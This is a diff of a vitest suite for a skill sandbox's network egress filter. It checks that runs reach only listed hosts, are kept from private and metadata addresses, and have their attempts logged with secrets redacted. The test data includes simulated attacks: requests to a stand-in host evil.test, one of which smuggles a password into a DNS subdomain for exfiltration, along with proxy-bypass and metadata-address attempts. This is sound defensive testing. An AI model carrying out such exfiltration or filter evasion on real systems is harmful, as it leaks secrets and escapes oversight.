@@ -1,19 +1,20 @@
-import { execFile } from 'node:child_process'
+import { spawn } from 'node:child_process'
 import { chmodSync, copyFileSync, mkdtempSync, readFileSync, rmSync } from 'node:fs'
 import { createServer as createHttpServer } from 'node:http'
 import { createServer as createTlsServer } from 'node:https'
-import { connect, type AddressInfo, type Server } from 'node:net'
+import type { AddressInfo, Server } from 'node:net'
 import { join } from 'node:path'
+import { text } from 'node:stream/consumers'
 import { fileURLToPath } from 'node:url'
-import { promisify } from 'node:util'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import type { NetworkDecision } from '../../../../src/core/sandbox/egress/decision.ts'
 import { plant } from '../../../helpers/skills.ts'
 import { CERTIFICATE, KEY } from './certificate.ts'
+import type { Asked, Attempt, Told } from './worker-protocol.ts'
 
 const HERE = fileURLToPath(new URL('./', import.meta.url))
 const ROOT = fileURLToPath(new URL('../../../../', import.meta.url))
 const isRoot = process.getuid?.() === 0
+const SECRET = 'Hunter2correcthorse'
 
 const dir = mkdtempSync('/tmp/skills-egress-')
 const servers: Server[] = []
@@ -46,155 +47,103 @@ afterAll(() => {
   rmSync(dir, { recursive: true, force: true })
 })
 
-type Attempt = readonly (string | number)[]
+const asUser = ['setpriv', '--reuid', '65534', '--regid', '65534', '--clear-groups']
+const withTsx = [
+  process.execPath,
+  `--import=${join(dir, 'resolver.mjs')}`,
+  `--import=${join(ROOT, 'node_modules/tsx/dist/loader.mjs')}`,
+]
 
-interface Asked {
-  /** Of the skill; none at all unless given. */
-  list?: readonly string[]
-  attempts: readonly Attempt[]
-  /** What the operator allows besides; both servers of these tests unless given. */
-  allowPrivate?: string
-  words?: readonly string[]
-  atOnce?: boolean
-  onStdout?: (text: string) => void
-}
-
-interface Told {
-  run_id: string
-  status: string
-  output: unknown[]
-  logs_preview: string
-  isolation: { network: string; user: number }
+interface Ended {
+  code: number | null
+  stdout: string
   stderr: string
 }
 
-const run = promisify(execFile)
-
-/** Through the real command line, in a process of its own. */
-async function inside(asUser: boolean, asked: Asked): Promise<Told & { home: string }> {
-  const home = mkdtempSync(join(dir, 'home-'))
-  chmodSync(home, 0o777)
-  const list = asked.list ?? []
-  plant(home, {
-    'skill/skill.toml': `name = "try.network"\nversion = "0.1.0"\ndescription = "x"\nkind = "action"\n[runtime]\nlanguage = "python"\nentrypoint = "attempts.py"\nexport = "main"\n[permissions]\nnetwork = ${JSON.stringify(list)}\n`,
-    'skill/attempts.py': readFileSync(join(HERE, 'attempts.py')),
-  })
-  const user = ['setpriv', '--reuid', '65534', '--regid', '65534', '--clear-groups']
-  const words = [
-    ...(asUser && isRoot ? user : ['env']),
-    process.execPath,
-    ...['--import', join(dir, 'resolver.mjs')],
-    ...['--import', join(ROOT, 'node_modules/tsx/dist/loader.mjs')],
-    ...[join(ROOT, 'scripts/dev.js'), 'exec', join(home, 'skill'), '--json', '--no-config'],
-    ...['--args', JSON.stringify({ attempts: asked.attempts, at_once: asked.atOnce === true })],
-    ...(asked.words ?? ['--allow-network']),
-  ]
+async function start(words: readonly string[], env: Record<string, string>, input = '') {
   const [program = '', ...args] = words
-  const env = {
-    PATH: '/usr/bin:/bin',
-    HOME: home,
-    TMPDIR: home,
-    SSL_CERT_FILE: join(dir, 'authority.pem'),
-    SKILLS_RUN_NETWORK_ALLOW_PRIVATE:
-      asked.allowPrivate ?? `127.0.0.1:${ports.http},127.0.0.1:${ports.https}`,
-  }
-  const running = run(program, args, { env, cwd: dir, maxBuffer: 1e8 })
-  running.child.stderr?.on('data', (chunk) => asked.onStdout?.(String(chunk)))
-  const { stdout, stderr } = await running.catch(
-    (error: { stdout: string; stderr: string }) => error,
-  )
-  const document = (stdout === '' ? {} : JSON.parse(stdout)) as Told
-  return { ...document, stderr, home }
+  const child = spawn(program, args, { env, cwd: dir })
+  child.stdin.end(input)
+  const [stdout, stderr, code] = await Promise.all([
+    text(child.stdout),
+    text(child.stderr),
+    new Promise<number | null>((resolve) => child.on('close', resolve)),
+  ])
+  return { code, stdout, stderr } satisfies Ended
 }
 
-/** What the run's record has of the network. */
-async function recorded({ home, run_id }: Told & { home: string }): Promise<NetworkDecision[]> {
-  const dev = [
-    '--import',
-    join(ROOT, 'node_modules/tsx/dist/loader.mjs'),
-    join(ROOT, 'scripts/dev.js'),
-  ]
-  const env = { PATH: '/usr/bin:/bin', HOME: home, TMPDIR: home }
-  const words = [...dev, 'runs', 'show', run_id, '--json', '--no-config']
-  const { stdout } = await run(process.execPath, words, { env, cwd: home })
-  const record = JSON.parse(stdout) as { network?: NetworkDecision[] }
-  return (
-    record.network ?? (record as unknown as { run: { network: NetworkDecision[] } }).run.network
-  )
+function home(): string {
+  const folder = mkdtempSync(join(dir, 'home-'))
+  chmodSync(folder, 0o777)
+  return folder
+}
+
+/** All of these runs side by side in one process of this user. */
+async function runAll(user: boolean): Promise<Record<string, Told>> {
+  const base = home()
+  const words = [...(user && isRoot ? asUser : ['env']), ...withTsx, join(HERE, 'worker.ts')]
+  const input = { base, certificates: join(dir, 'authority.pem'), runs: runs() }
+  const env = { PATH: '/usr/bin:/bin', HOME: base, TMPDIR: base }
+  const { stdout, stderr } = await start(words, env, JSON.stringify(input))
+  if (stdout === '') throw new Error(stderr)
+  return JSON.parse(stdout) as Record<string, Told>
 }
 
 const api = (scheme: 'http' | 'https') => `${scheme}://api.example.test:${ports[scheme]}`
+const other = () => `http://other.example.test:${ports.http}`
+const get = (url: string): Attempt => ['by_urllib', url]
 
-describe.each([
-  ['root', false],
-  ['an ordinary user', true],
-] as const)('a run started by %s', (_who, asUser) => {
-  const reason = asUser || isRoot ? '' : ' (not run: these tests run as an ordinary user)'
-  const test = it.skipIf(reason !== '')
+/** Both lists by both ways, many times: whose list decides would change if anything was shared. */
+const mixed = () =>
+  Array.from({ length: 5 }, () =>
+    [api('http'), other()].flatMap((url) => [get(`${url}/`), ['without_proxy', `${url}/`]]),
+  ).flat()
 
-  test(`reaches its list by every way, and nothing else by any${reason}`, async () => {
-    const both = [api('http'), api('https')]
-    const told = await inside(asUser, {
-      list: both,
+const privateList = () => [
+  'http://inside.example.test',
+  `http://127.0.0.1:${ports.http}`,
+  `http://[::1]:${ports.http}`,
+  'http://169.254.169.254',
+  api('http'),
+]
+
+const noNetwork = (): Attempt[] => [
+  get(`${api('http')}/`),
+  ['connect', '127.0.0.1', ports.http],
+  ['connect', '127.0.0.1', 3128],
+  ['environment'],
+]
+
+function runs(): Record<string, Asked> {
+  const allowPrivate = [`127.0.0.1:${ports.http}`, `127.0.0.1:${ports.https}`]
+  const list = [api('http')]
+  const open = { list, allowPrivate }
+  return {
+    ways: {
+      list: [api('http'), api('https')],
+      allowPrivate,
       attempts: [
-        ['by_urllib', `${both[0]}/a`],
-        ['by_urllib', `${both[1]}/b`],
-        ['like_requests', `${both[0]}/c`],
-        ['like_requests', `${both[1]}/d`],
-        ['without_proxy', `${both[0]}/e`],
-        ['without_proxy', `${both[1]}/f`],
+        get(`${api('http')}/a`),
+        get(`${api('https')}/b`),
+        ['like_requests', `${api('http')}/c`],
+        ['like_requests', `${api('https')}/d`],
+        ['without_proxy', `${api('http')}/e`],
+        ['without_proxy', `${api('https')}/f`],
         ['by_socket', 'api.example.test', ports.http],
         ['by_tls', 'api.example.test', ports.https],
-        ['by_urllib', `http://evil.test:${ports.http}/`],
-        ['by_urllib', `https://evil.test:${ports.https}/`],
+        get(`http://evil.test:${ports.http}/`),
+        get(`https://evil.test:${ports.https}/`),
         ['without_proxy', `http://evil.test:${ports.http}/`],
         ['by_socket', '127.0.0.1', ports.http, 'evil.test'],
         ['by_tls', '127.0.0.1', ports.https, 'other.example.test'],
         ['connect', '127.0.0.1', 1],
         ['connect', '1.1.1.1', 443],
         ['connect', '::1', ports.http],
-        ['by_urllib', `${both[0]}/away`],
+        get(`${api('http')}/away`),
       ],
-    })
-    expect(told.stderr).toContain('Network allowed (listed)')
-    const good = told.output.slice(0, 8)
-    expect(good.slice(0, 6)).toEqual([
-      'http /a',
-      'https /b',
-      '200 http /c',
-      '200 https /d',
-      'http /e',
-      'https /f',
-    ])
-    expect(good[6]).toMatch(/^HTTP\/1.1 200 OK[^]*http \/raw$/)
-    expect(good[7]).toMatch(/^HTTP\/1.[01] 200 OK/)
-    expect(told.output.slice(8)).toEqual([
-      expect.stringMatching(/HTTP Error 403: .*evil.test:\d+ is not in permissions.network/),
-      expect.stringMatching(
-        /Tunnel connection failed: 403 .*evil.test:\d+ is not in permissions.network/,
-      ),
-      expect.stringMatching(/Name or service not known/),
-      expect.stringMatching(/^HTTP\/1.1 403 /),
-      expect.stringMatching(/access denied/i),
-      expect.stringMatching(/^ConnectionRefusedError/),
-      expect.stringMatching(/Network is unreachable/),
-      expect.stringMatching(
-        /^ConnectionRefusedError|Cannot assign requested address|Network is unreachable/,
-      ),
-      expect.stringMatching(/HTTP Error 403: .*other.example.test/),
-    ])
-    expect(told.isolation.network).toBe('filtered')
-    const decisions = await recorded(told)
-    expect(decisions.filter(({ allowed }) => allowed)).toHaveLength(9)
-    expect(new Set(decisions.map(({ via }) => via))).toEqual(new Set(['proxy', 'direct', 'dns']))
-    expect(
-      decisions.filter(({ host }) => host === 'evil.test').map(({ reason: why }) => why),
-    ).toEqual(Array.from({ length: 4 }, () => 'host-not-listed'))
-  })
-
-  test(`has no right, no descriptor and no way to more that another has not${reason}`, async () => {
-    const told = await inside(asUser, {
-      list: [api('http')],
+    },
+    rights: {
+      ...open,
       attempts: [
         ['rights'],
         ['files'],
@@ -207,160 +156,233 @@ describe.each([
         ['bind', '127.64.0.1', ports.http, 2, 15],
         ['bind', '127.0.0.1', 53],
         ['bind', '127.0.0.1', 5353],
-        ['by_urllib', `${api('http')}/still`],
+        get(`${api('http')}/still`),
         ['after', `${api('http')}/after`],
         ['after', `http://evil.test:${ports.http}/`],
       ],
-    })
-    const [rights, files, environment, ...rest] = told.output
+    },
+    empty: { list: [], allowPrivate, attempts: noNetwork() },
+    withoutLeave: { ...open, attempts: noNetwork(), withoutLeave: true },
+    one: { ...open, attempts: mixed() },
+    another: { list: [other()], allowPrivate, attempts: mixed() },
+    private: {
+      list: privateList(),
+      allowPrivate: [],
+      attempts: privateList().map((url) => get(`${url}/`)),
+    },
+    listening: { ...open, attempts: [['listen', 1]], reach: true },
+    greedy: { ...open, attempts: [['many', '127.0.0.1', 3128, 200]] },
+    secret: {
+      ...open,
+      secret: SECRET,
+      attempts: [
+        get(`http://${SECRET}.evil.test/`),
+        ['without_proxy', `http://${SECRET.toUpperCase()}.evil.test/`],
+      ],
+    },
+    unreadable: { ...open, list: ['https://*'], attempts: [] },
+    misconfigured: { ...open, allowPrivate: ['10.0.0.0/64'], attempts: [] },
+    unfiltered: { ...open, backend: 'process', attempts: [] },
+  }
+}
+
+const REFUSED = expect.stringMatching(/^ConnectionRefusedError/) as string
+const NO_NAME = expect.stringMatching(
+  /Name or service not known|Temporary failure in name resolution/,
+) as string
+const IN_USE = expect.stringMatching(/Address already in use/) as string
+
+describe.each([
+  ['root', false],
+  ['an ordinary user', true],
+] as const)('a run started by %s', (_who, user) => {
+  const reason = user || isRoot ? '' : ' (not run: these tests run as an ordinary user)'
+  const test = it.skipIf(reason !== '')
+  let all: Record<string, Told> = {}
+
+  beforeAll(async () => {
+    if (reason === '') all = await runAll(user)
+  })
+
+  const outputOf = (name: string) => {
+    const { result, thrown } = all[name] ?? {}
+    expect({ thrown, error: result?.error }).toEqual({ thrown: undefined, error: undefined })
+    return result?.output as unknown[]
+  }
+
+  test(`reaches its list by every way${reason}`, () => {
+    const output = outputOf('ways')
+    expect(output.slice(0, 6)).toEqual([
+      'http /a',
+      'https /b',
+      '200 http /c',
+      '200 https /d',
+      'http /e',
+      'https /f',
+    ])
+    expect(output[6]).toMatch(/^HTTP\/1.1 200 OK[^]*http \/raw$/)
+    expect(output[7]).toMatch(/^HTTP\/1.[01] 200 OK/)
+    expect(all['ways']?.result?.isolation?.network).toBe('filtered')
+  })
+
+  test(`reaches nothing else by any${reason}`, () => {
+    expect(outputOf('ways').slice(8)).toEqual([
+      expect.stringMatching(/HTTP Error 403: .*evil.test:\d+ is not in permissions.network/),
+      expect.stringMatching(/Tunnel connection failed: 403 .*evil.test:\d+ is not in/),
+      NO_NAME,
+      expect.stringMatching(/^HTTP\/1.1 403 /),
+      expect.stringMatching(/access denied/i),
+      REFUSED,
+      expect.stringMatching(/Network is unreachable/),
+      expect.stringMatching(/^(?:OSError|ConnectionRefusedError)/),
+      expect.stringMatching(/HTTP Error 403: .*other.example.test/),
+    ])
+  })
+
+  test(`tells of every attempt${reason}`, () => {
+    const { decisions = [], logs = '' } = all['ways'] ?? {}
+    expect(decisions.filter(({ allowed }) => allowed)).toHaveLength(9)
+    expect(
+      decisions
+        .filter(({ allowed }) => !allowed)
+        .map(({ via, host, reason: why }) => [via, host, why]),
+    ).toEqual([
+      ['proxy', 'evil.test', 'host-not-listed'],
+      ['proxy', 'evil.test', 'host-not-listed'],
+      ['dns', 'evil.test', 'host-not-listed'],
+      ['direct', 'evil.test', 'host-not-listed'],
+      ['direct', 'other.example.test', 'host-not-listed'],
+      ['proxy', 'other.example.test', 'host-not-listed'],
+    ])
+    expect(logs).toContain(
+      `[skills] Network allowed (listed): ${api('https')} is in permissions.network`,
+    )
+    expect(logs).toContain('[skills] Network refused (host-not-listed): https://evil.test')
+  })
+
+  test(`has no right and no descriptor more than another${reason}`, () => {
+    const [rights, files, environment] = outputOf('rights')
     expect(rights).toEqual(Array.from({ length: 5 }, () => '0000000000000000'))
     // The three of every process, the channel of the run, and the folder that is being listed.
     expect((files as number[]).filter((fd) => fd > 2 && fd !== 7)).toHaveLength(1)
     const proxy = 'http://127.0.0.1:3128'
-    const names = { HTTP_PROXY: proxy, HTTPS_PROXY: proxy, NO_PROXY: '' }
-    expect(environment).toMatchObject({
-      ...names,
-      http_proxy: proxy,
-      https_proxy: proxy,
-      no_proxy: '',
-    })
-    expect(rest).toEqual([
+    const upper = { HTTP_PROXY: proxy, HTTPS_PROXY: proxy, NO_PROXY: '' }
+    const lower = { http_proxy: proxy, https_proxy: proxy, no_proxy: '' }
+    expect(environment).toEqual({ ...upper, ...lower })
+  })
+
+  test(`cannot take the filter's place, nor go without it${reason}`, () => {
+    expect(outputOf('rights').slice(3)).toEqual([
       'Operation not permitted',
       'Operation not permitted',
-      ...Array.from({ length: 4 }, () => expect.stringMatching(/Address already in use/)),
+      IN_USE,
+      IN_USE,
+      IN_USE,
+      IN_USE,
       expect.stringMatching(/^(?:PermissionError|OSError)/),
       'bound',
       'http /still',
       'http /after',
-      expect.stringMatching(/Name or service not known/),
+      NO_NAME,
     ])
   })
 
-  test(`with an empty list, or without leave, has no network${reason}`, async () => {
-    const attempts: Attempt[] = [
-      ['by_urllib', `${api('http')}/`],
-      ['connect', '127.0.0.1', ports.http],
-      ['connect', '127.0.0.1', 3128],
-      ['environment'],
-    ]
-    const refused = [
-      expect.stringMatching(/Name or service not known|Temporary failure in name resolution/),
-      expect.stringMatching(/^ConnectionRefusedError/),
-      expect.stringMatching(/^ConnectionRefusedError/),
-      {},
-    ]
-    const empty = await inside(asUser, { list: [], attempts })
-    expect(empty.output).toEqual(refused)
-    expect(empty.isolation.network).toBe('none')
-    const without = await inside(asUser, { list: [api('http')], attempts, words: [] })
-    expect(without.output).toEqual(refused)
-    expect(without.isolation.network).toBe('none')
-    expect(without.stderr).toContain('This run has no network')
-    const control = await inside(asUser, { list: [api('http')], attempts: attempts.slice(0, 1) })
-    expect(control.output).toEqual(['http /'])
+  test(`has no network with an empty list or without leave${reason}`, () => {
+    for (const name of ['empty', 'withoutLeave']) {
+      expect(outputOf(name)).toEqual([NO_NAME, REFUSED, REFUSED, {}])
+      expect(all[name]?.result?.isolation?.network).toBe('none')
+    }
+    expect(all['withoutLeave']?.logs).toContain('This run has no network')
   })
 
-  test(`keeps to its own list while another run has another${reason}`, async () => {
-    const other = `http://other.example.test:${ports.http}`
-    const attempts: Attempt[] = Array.from({ length: 10 }, () => [
-      ['by_urllib', `${api('http')}/`],
-      ['by_urllib', `${other}/`],
-      ['without_proxy', `${api('http')}/`],
-      ['without_proxy', `${other}/`],
-    ]).flat() as Attempt[]
-    const [first, second] = await Promise.all([
-      inside(asUser, { list: [api('http')], attempts }),
-      inside(asUser, { list: [other], attempts }),
-    ])
-    const got = (told: Told) => told.output.map((each) => each === 'http /')
-    expect(got(first)).toEqual(attempts.map(([, url]) => String(url).includes('api.')))
-    expect(got(second)).toEqual(attempts.map(([, url]) => String(url).includes('other.')))
+  test(`keeps to its own list while another has another in the same process${reason}`, () => {
+    const got = (name: string) => outputOf(name).map((each) => each === 'http /')
+    const listed = (host: string) => mixed().map(([, url]) => String(url).includes(host))
+    expect(got('one')).toEqual(listed('//api.'))
+    expect(got('another')).toEqual(listed('//other.'))
   })
 
-  test(`is kept from private addresses, also behind listed names${reason}`, async () => {
-    const list = [
-      'http://inside.example.test',
-      `http://127.0.0.1:${ports.http}`,
-      `http://[::1]:${ports.http}`,
-      'http://169.254.169.254',
-      api('http'),
-    ]
-    const attempts = list.map((url) => ['by_urllib', `${url}/`] as const)
-    const told = await inside(asUser, { list, attempts, allowPrivate: '' })
+  test(`is kept from private addresses, also behind listed names${reason}`, () => {
     const codes = ['private', 'loopback', 'loopback', 'metadata', 'loopback']
-    expect(told.output).toEqual(
+    expect(outputOf('private')).toEqual(
       codes.map((code) => expect.stringContaining(`(${code}-address)`) as string),
     )
-    const control = await inside(asUser, { list, attempts: attempts.slice(-1) })
-    expect(control.output).toEqual(['http /'])
   })
 
-  test(`cannot be reached from outside where it listens${reason}`, async () => {
-    let outside: Promise<string> | undefined
-    const told = await inside(asUser, {
-      list: [api('http')],
-      attempts: [['listen', 2]],
-      onStdout: (text) => {
-        const port = /port (\d+)/.exec(text)?.[1]
-        if (port !== undefined) outside ??= reach(Number(port))
-      },
+  test(`cannot be reached from outside where it listens${reason}`, () => {
+    const timeout = expect.stringMatching(/^TimeoutError/) as string
+    expect(outputOf('listening')).toEqual([{ own: 'connected', other: timeout }])
+    expect(all['listening']?.reached).toBe('ECONNREFUSED')
+  })
+
+  test(`has no more than its share of connections${reason}`, () => {
+    outputOf('greedy')
+    const reasons = all['greedy']?.decisions.map((decision) => decision.reason)
+    expect(new Set(reasons)).toEqual(new Set(['too-many']))
+  })
+
+  test(`does not spread its secrets by what it asks for${reason}`, () => {
+    expect(outputOf('secret')).toHaveLength(2)
+    const { decisions = [], logs = '', result } = all['secret'] ?? {}
+    expect(decisions.map(({ host }) => host)).toEqual([
+      '[redacted].evil.test',
+      '[redacted].evil.test',
+    ])
+    const said = JSON.stringify([decisions, logs, result?.logs_preview]).toLowerCase()
+    expect(said).not.toContain(SECRET.toLowerCase())
+  })
+
+  test(`is refused where it could not be held to its list${reason}`, () => {
+    const thrown = (name: string) => all[name]?.thrown
+    expect(thrown('unreadable')).toEqual({
+      code: 'policy/denied',
+      message: 'permissions.network has "https://*", but it allows every host',
     })
-    expect(told.output).toEqual([
-      { own: 'connected', other: expect.stringMatching(/^TimeoutError/) },
-    ])
-    expect(await outside).toBe('ECONNREFUSED')
-  })
-
-  test(`has no more than a share of connections, and its neighbour its own${reason}`, async () => {
-    const list = [api('http')]
-    const [greedy, modest] = await Promise.all([
-      inside(asUser, {
-        list,
-        attempts: [
-          ['many', '127.0.0.1', 3128, 200],
-          ['by_urllib', `${api('http')}/`],
-        ],
-      }),
-      inside(asUser, {
-        list,
-        attempts: Array.from({ length: 5 }, () => ['by_urllib', `${api('http')}/`]),
-      }),
-    ])
-    expect(greedy.status).toBe('completed')
-    expect((await recorded(greedy)).some(({ reason: why }) => why === 'too-many')).toBe(true)
-    expect(modest.output).toEqual(Array.from({ length: 5 }, () => 'http /'))
+    expect(thrown('misconfigured')).toMatchObject({
+      code: 'config/invalid',
+      message: expect.stringContaining('run.network.allow_private has "10.0.0.0/64"') as string,
+    })
+    expect(thrown('unfiltered')).toMatchObject({ code: 'policy/denied' })
   })
 })
 
-describe('leave to use the network', () => {
-  it('is refused for an entry that cannot be read', async () => {
-    const { stderr, output } = await inside(false, { list: ['https://*'], attempts: [] })
-    expect(output).toBeUndefined()
-    expect(stderr).toContain('permissions.network has "https://*", but it allows every host')
+it('is told of in the record of a run from the command line', async () => {
+  const folder = home()
+  const list = JSON.stringify([api('https')])
+  plant(folder, {
+    'skill/skill.toml': `name = "try.network"\nversion = "0.1.0"\ndescription = "x"\nkind = "action"\n[runtime]\nlanguage = "python"\nentrypoint = "attempts.py"\nexport = "main"\n[permissions]\nnetwork = ${list}\n`,
+    'skill/attempts.py': readFileSync(join(HERE, 'attempts.py')),
   })
-
-  it('is refused where the configuration cannot be read', async () => {
-    const told = await inside(false, {
-      list: [api('http')],
-      attempts: [],
-      allowPrivate: '10.0.0.0/64',
-    })
-    expect(told.output).toBeUndefined()
-    expect(told.stderr).toContain('run.network.allow_private has "10.0.0.0/64", expected')
-  })
-
-  it('is refused where a backend cannot hold a run to a list', async () => {
-    const words = ['--allow-network', '--backend', 'process']
-    const { stderr } = await inside(false, { list: [api('http')], attempts: [], words })
-    expect(stderr).toContain('nothing here can hold a run to the list of its skill')
-  })
+  const env = {
+    PATH: '/usr/bin:/bin',
+    HOME: folder,
+    TMPDIR: folder,
+    SSL_CERT_FILE: join(dir, 'authority.pem'),
+    SKILLS_RUN_NETWORK_ALLOW_PRIVATE: `127.0.0.1:${ports.https}`,
+  }
+  const skills = [...withTsx, join(ROOT, 'scripts/dev.js')]
+  const attempts = [get(`${api('https')}/`), get('https://evil.test/')]
+  const ran = await start(
+    [
+      ...skills,
+      'exec',
+      join(folder, 'skill'),
+      '--allow-network',
+      '--json',
+      '--args',
+      JSON.stringify({ attempts }),
+    ],
+    env,
+  )
+  const { run_id, output } = JSON.parse(ran.stdout) as { run_id: string; output: string[] }
+  expect(output).toEqual(['https /', expect.stringContaining('(host-not-listed)')])
+  expect(ran.stderr).toContain('Network allowed (listed)')
+  const shown = await start([...skills, 'runs', 'show', run_id, '--json'], env)
+  const attempt = { via: 'proxy', scheme: 'https' }
+  const network = [
+    { ...attempt, allowed: true, reason: 'listed', host: 'api.example.test', port: ports.https },
+    { ...attempt, allowed: false, reason: 'host-not-listed', host: 'evil.test', port: 443 },
+  ]
+  const record = JSON.parse(shown.stdout) as object
+  expect('run' in record ? record.run : record).toMatchObject({ network })
 })
-
-function reach(port: number): Promise<string> {
-  return new Promise((resolve) => {
-    const socket = connect(port, '127.0.0.1')
-    socket.on('connect', () => resolve('connected'))
-    socket.on('error', (error: NodeJS.ErrnoException) => resolve(String(error.code)))
-    socket.on('close', () => socket.destroy())
-  })
-}
